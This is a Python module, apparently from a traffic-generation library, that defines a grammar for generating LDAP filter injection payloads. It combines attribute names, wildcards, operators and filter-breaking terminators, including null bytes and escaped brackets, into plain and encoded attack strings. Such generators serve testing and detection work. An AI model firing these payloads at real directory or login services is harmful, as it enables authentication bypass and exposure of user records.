"""LDAP filter injection in a few characters: a star, a bracket too many, the rest of a filter."""

from traffic.grammars.attacks.pieces import Grammar, Symbols

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "a": (
        "uid", "uid", "cn", "cn", "sn", "mail", "objectClass", "objectClass", "objectclass",
        "userPassword", "password", "user", "givenName", "ou",
        "memberOf", "sAMAccountName", "department", "‹id›", "username", "userid", "login", "pass",
        "role", "uidNumber", "o", "description",
    ),
    "b": (
        "", "", "", "*", "*", "admin", "admin*", "‹name›", "‹abc›*", "x", "‹word›", "‹n›", "a*",
        "‹name›*", "test", "*‹abc›*",
    ),
    "v": (
        "*", "*", "*", "‹abc›*", "‹name›", "admin", "‹word›", "‹n›", "a*", "void", "person", "user",
        "*‹abc›", "‹rnd›",
    ),
    "e": ("", "", "", ")", "))", "%00", "\x00", "))%00", "(", ")(", "#", "*", ")\x00", "\\00"),
    "x": (")", "))", "%00", "\x00", "))%00", "(", ")(", ")\x00", ")(‹a›=*"),  # breaks a filter
    "k": ("|", "|", "&", "&", "!"),
}
_GRAMMAR = Grammar(_SYMBOLS)

RULES = _GRAMMAR.rules(
    closed_short=(
        "‹b›)(‹a›=‹v›‹e›", "‹b›)(‹k›(‹a›=‹v›)‹e›", "‹b›))(‹k›(‹a›=‹v›‹e›", "‹b›)(‹k›‹e›",
        "‹b›)(&)‹e›", "‹b›)(‹a›=‹v›))(‹k›(‹a›=‹v›", "‹b›)(‹k›(‹k›‹e›", "‹b›*)(‹a›=‹v›",
        "‹b›)(‹a›>=‹v›", "‹b›)(!(‹a›=‹v›)‹e›", "‹b›))%00‹abc?›", "‹b›*))‹e›(‹a›=",
        "‹b›)(‹a›~=‹v›", "‹b›)‹e›(‹k›(‹a›=*)(‹a›=‹v›))", "‹b›*(‹k›(‹a›=‹v›))‹e›",
        "‹b›)(‹a›=*)(‹a›=‹v›‹e›",
    ),
    filter_short=(
        "(‹a›=*)‹e›)", "(‹k›(‹a›=‹v›)(‹a›=*))‹x›", "(‹k›(‹a›=*)", "(‹k›(‹a›=‹v›)", ")(‹a›=‹v›",
        "‹a›=*)(‹a›=‹v›", "‹a›=*)‹e›(", "‹a›=‹b›)(‹k›", "(‹a›=‹v›))(‹k›(‹a›=*", "*(‹a›=‹v›)",
        "‹a›=‹v›)(‹k›(‹a›=*)", "*)(‹a›=‹v›)‹e›", "&(‹a›=‹v›)(‹a›=*", "|(‹a›=*)(‹a›=‹v›",
        "!(‹a›=‹v›))(‹k›", "(!(‹a›=‹v›))‹x›",
    ),
    escaped_short=(
        "*%29%28‹a›%3D‹v›", "‹b›%29(‹k›(‹a›=‹v›", "‹b›\\29\\28‹a›=‹v›", "‹b›%29%28%7C%28‹a›%3D%2A",
        "%2A%29(‹a›=‹v›)", "\\2a\\29(‹k›(‹a›=*)", "‹b›*%00‹abc›", "‹b›)%28‹a›=‹v›",
        "‹b›%2a%29(‹a›=‹v›‹e›", "‹b›\\2a)(‹a›=‹v›‹e›",
    ),
)
